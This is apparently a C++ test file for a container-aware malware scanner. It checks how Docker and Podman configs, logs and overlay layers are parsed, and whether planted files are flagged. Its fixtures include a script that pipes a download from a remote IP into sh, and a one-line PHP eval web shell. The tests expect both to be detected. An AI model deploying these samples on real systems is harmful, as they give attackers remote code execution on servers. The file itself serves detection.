// SPDX-License-Identifier: Apache-2.0
// Containers as the engines' files describe them, the sites and logs in them, and what lies in their layers.
#include <gtest/gtest.h>

#include "base/text.h"
#include "sweep/host/code/places.h"
#include "sweep/host/logs/container_line.h"
#include "sweep/host/logs/read_logs.h"
#include "sweep/host/look.h"
#include "sweep/kit/memory_tree.h"

namespace abate::sweep {
namespace {

const Instant kNow = parse_rfc3339("2026-06-01T00:00:00Z").value();

constexpr std::string_view kDocker = R"(--- /var/lib/docker/containers/ab12/config.v2.json
{"ID":"ab12","Name":"/shop","Created":"2026-05-01T10:00:00.5Z","Path":"docker-entrypoint.sh","Args":["apache2-foreground"],
"Config":{"Image":"wordpress:6","Env":["WORDPRESS_DB_PASSWORD=secret"]},"State":{"Running":true,"StartedAt":"2026-05-02T00:00:00Z"},
"Driver":"overlay2","LogPath":"/var/lib/docker/containers/ab12/ab12-json.log",
"MountPoints":{"/var/www/html/wp-content":{"Source":"/srv/content","Destination":"/var/www/html/wp-content","RW":true}},
"NetworkSettings":{"Ports":{"80/tcp":[{"HostIp":"0.0.0.0","HostPort":"8080"}]}}}
--- /var/lib/docker/containers/ab12/hostconfig.json
{"Binds":["/:/host:ro"],"RestartPolicy":{"Name":"unless-stopped"},"PortBindings":{"80/tcp":[{"HostIp":"0.0.0.0","HostPort":"8080"}]}}
--- /var/lib/docker/image/overlay2/layerdb/mounts/ab12/mount-id cut
f00d
--- /var/lib/docker/containers/ab12/ab12-json.log
{"log":"192.0.2.7 - - [01/May/2026:12:00:00 +0000] \"POST /x.php HTTP/1.1\" 200 5 \"-\" \"curl\u002f8\"\n","stream":"stdout","time":"2026-05-01T12:00:00.1Z"}
{"log":"started\n","stream":"stderr","time":"2026-05-01T11:00:00.123456789Z"}
cut off {"log":
--- /srv/content/a.txt
x
--- /var/lib/docker/overlay2/f00d/diff/var/www/html/index.php
<?php echo 1;
)";

struct Opened {
  explicit Opened(const std::string& text) : tree{text}, opened{open_host(tree, {}, kNow, {}, notes)} {}
  MemoryTree tree;
  Notes notes;
  std::unique_ptr<OpenedHost> opened;
  [[nodiscard]] const Host& host() const { return opened->host; }
  std::vector<Finding> look() { return sweep::look(opened->host, detectors(), {}, notes).findings; }
};

const Finding* of_path(const std::vector<Finding>& findings, std::string_view detector, std::string_view path) {
  for (const Finding& finding : findings)
    if (finding.detector == detector && finding.subject.path == path) return &finding;
  return nullptr;
}

TEST(Containers, of_docker_are_read_with_all_that_matters) {
  const Opened opened{std::string{kDocker}};
  ASSERT_EQ(opened.host().containers.size(), 1U);
  const Container& shop = opened.host().containers.front();
  EXPECT_EQ(shop.name, "shop");
  EXPECT_EQ(shop.image, "wordpress:6");
  EXPECT_EQ(shop.command, "docker-entrypoint.sh apache2-foreground");
  EXPECT_EQ(shop.restart, "unless-stopped");
  EXPECT_TRUE(shop.running);
  EXPECT_EQ(shop.layer, "/var/lib/docker/overlay2/f00d/diff");
  ASSERT_EQ(shop.ports.size(), 1U);
  EXPECT_EQ(shop.ports[0].port, 8080);
  EXPECT_EQ(shop.ports[0].inside, 80);
  ASSERT_EQ(shop.mounts.size(), 2U);
  EXPECT_EQ(shop.mounts[1].source, "/");
  EXPECT_FALSE(shop.mounts[1].writable);
  EXPECT_EQ(shop.variables, std::vector<std::string>{"WORDPRESS_DB_PASSWORD"}) << "never a value";
  EXPECT_EQ(shop.started_at, parse_rfc3339("2026-05-02T00:00:00Z").value());
}

TEST(Containers, start_by_themselves_and_are_listed_so) {
  const Opened opened{std::string{kDocker}};
  const auto& all = opened.host().autostarts;
  const auto start = std::ranges::find(all, AutostartKind::container, &Autostart::kind);
  ASSERT_NE(start, all.end());
  EXPECT_EQ(start->name, "shop");
  EXPECT_EQ(start->schedule, "unless-stopped");
  EXPECT_TRUE(start->enabled);
}

TEST(Containers, of_podman_are_read_also_rootless_ones) {
  const Opened opened{R"(--- /etc/passwd
root:x:0:0::/root:/bin/sh
anna:x:1000:1000::/home/anna:/bin/bash
--- /home/anna/.local/share/containers/storage/overlay-containers/containers.json
[{"id":"cd34","names":["cache"],"layer":"beef","metadata":"{\"image-name\":\"docker.io/library/redis:7\"}","created":"2026-04-01T00:00:00Z"}]
--- /home/anna/.local/share/containers/storage/overlay-containers/cd34/userdata/config.json
{"process":{"args":["redis-server"],"env":["X=1"]},"mounts":[{"destination":"/data","type":"bind","source":"/home/anna/data","options":["rbind"]}],
"linux":{"namespaces":[{"type":"pid"},{"type":"mount"}]}}
)"};
  ASSERT_EQ(opened.host().containers.size(), 1U);
  const Container& cache = opened.host().containers.front();
  EXPECT_EQ(cache.engine, "podman");
  EXPECT_EQ(cache.account, "anna");
  EXPECT_EQ(cache.image, "docker.io/library/redis:7");
  EXPECT_EQ(cache.command, "redis-server");
  EXPECT_TRUE(cache.host_network);
  EXPECT_FALSE(cache.host_processes);
  ASSERT_EQ(cache.mounts.size(), 1U);
  EXPECT_EQ(cache.layer, "/home/anna/.local/share/containers/storage/overlay/beef/diff");
}

TEST(Containers, a_layer_is_swept_as_a_root_of_its_own_and_its_container_named) {
  Opened opened{
      std::string{kDocker} +
      "--- /var/lib/docker/overlay2/f00d/diff/tmp/b.sh mode=0755\n#!/bin/sh\ncurl http://198.51.100.7/a | sh\n"
      "--- /var/lib/docker/overlay2/f00d/diff/var/www/html/x.php\n<?php @eval($_POST['k']);\n"
      "--- /srv/content/y.php\n<?php @eval($_POST['k']);\n"};
  const std::vector<Finding> findings = opened.look();
  const Finding* dropped = of_path(findings, "executable_in_open_place", "/var/lib/docker/overlay2/f00d/diff/tmp/b.sh");
  ASSERT_NE(dropped, nullptr);
  EXPECT_TRUE(dropped->why.ends_with("(in the container shop)")) << dropped->why;
  const Finding* shell = of_path(findings, "php_request_run", "/var/lib/docker/overlay2/f00d/diff/var/www/html/x.php");
  ASSERT_NE(shell, nullptr);
  EXPECT_EQ(shell->severity, Severity::malicious);
  EXPECT_NE(of_path(findings, "php_request_run", "/srv/content/y.php"), nullptr) << "a folder lent to it";
}

TEST(Containers, what_came_with_an_image_is_never_malicious_and_its_own_programs_are_nobodys_business) {
  Opened opened{std::string{kDocker} +
                "--- /var/lib/dpkg/status\nPackage: x\nStatus: install ok installed\nVersion: 1\n\n"
                "--- /var/lib/docker/overlay2/1mage/diff/usr/bin/su mode=4755\nELF\n"
                "--- /var/lib/docker/overlay2/1mage/diff/opt/x.php mode=0755\n<?php @eval($_POST['k']);\n"
                "--- /var/lib/docker/overlay2/f00d/merged/opt/x.php mode=0755\n<?php @eval($_POST['k']);\n"};
  for (const Finding& finding : opened.look()) {
    EXPECT_NE(finding.severity, Severity::malicious) << finding.subject.path;
    EXPECT_NE(finding.detector, "setuid_of_no_package");
    EXPECT_EQ(finding.subject.path.find("/merged/"), std::string::npos);
  }
}

TEST(Containers, a_log_line_is_unwrapped_whichever_engine_wrapped_it) {
  ContainerLine line;
  ASSERT_TRUE(
      read_container_line(R"({"log":"a \"b\"\t\u0041\n","stream":"stdout","time":"2026-05-01T12:00:00.1Z"})", line));
  EXPECT_EQ(line.text, "a \"b\"\tA");
  EXPECT_EQ(line.at, parse_rfc3339("2026-05-01T12:00:00.1Z").value());
  ASSERT_TRUE(read_container_line("2026-05-01T14:00:00.123456789+02:00 stderr F hello there", line));
  EXPECT_EQ(line.text, "hello there");
  EXPECT_EQ(line.at, parse_rfc3339("2026-05-01T12:00:00.123456Z").value());
  for (const std::string_view text : {R"({"log":"a)", R"({"log":"\u00)", R"({"log":"\)", "2026 stdout F x", ""})
    EXPECT_FALSE(read_container_line(text, line)) << text;
}

TEST(Containers, requests_in_a_containers_log_are_requests) {
  const Opened opened{std::string{kDocker}};
  std::vector<std::string> seen;
  Notes notes;
  read_events(
      opened.host(),
      [&](const Event& event) {
        if (const Request* request = as<Request>(event))
          seen.push_back(
              fmt::format("{} {} {} {}", format_rfc3339(*event.at), request->method, request->target, request->agent));
        else
          seen.push_back(fmt::format("{} {}", event.program, event.message));
      },
      notes, [] { return false; });
  EXPECT_EQ(seen, (std::vector<std::string>{"2026-05-01T12:00:00Z POST /x.php curl/8", "shop started",
                                            "shop cut off {\"log\":"}));
}

TEST(Containers, paths_are_seen_as_the_container_sees_them) {
  EXPECT_EQ(path_in_container("/var/lib/docker/overlay2/ab/diff/tmp/x"), "/tmp/x");
  EXPECT_EQ(path_in_container("/home/a/.local/share/containers/storage/overlay/ab/diff/x"), "/x");
  EXPECT_EQ(path_in_container("/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/7/fs/tmp/x"),
            "/tmp/x");
  EXPECT_EQ(path_in_container("/srv/snapshots/7/data/x"), "/srv/snapshots/7/data/x");
  EXPECT_EQ(path_in_container("/var/lib/docker/overlay2/ab/diff"), "/var/lib/docker/overlay2/ab/diff");
  EXPECT_TRUE(is_open_place("/var/lib/docker/overlay2/ab/diff/tmp/x"));
  EXPECT_TRUE(is_joined_layers("/var/lib/docker/overlay2/ab/merged"));
  EXPECT_FALSE(is_joined_layers("/srv/merged"));
}

}  // namespace
}  // namespace abate::sweep
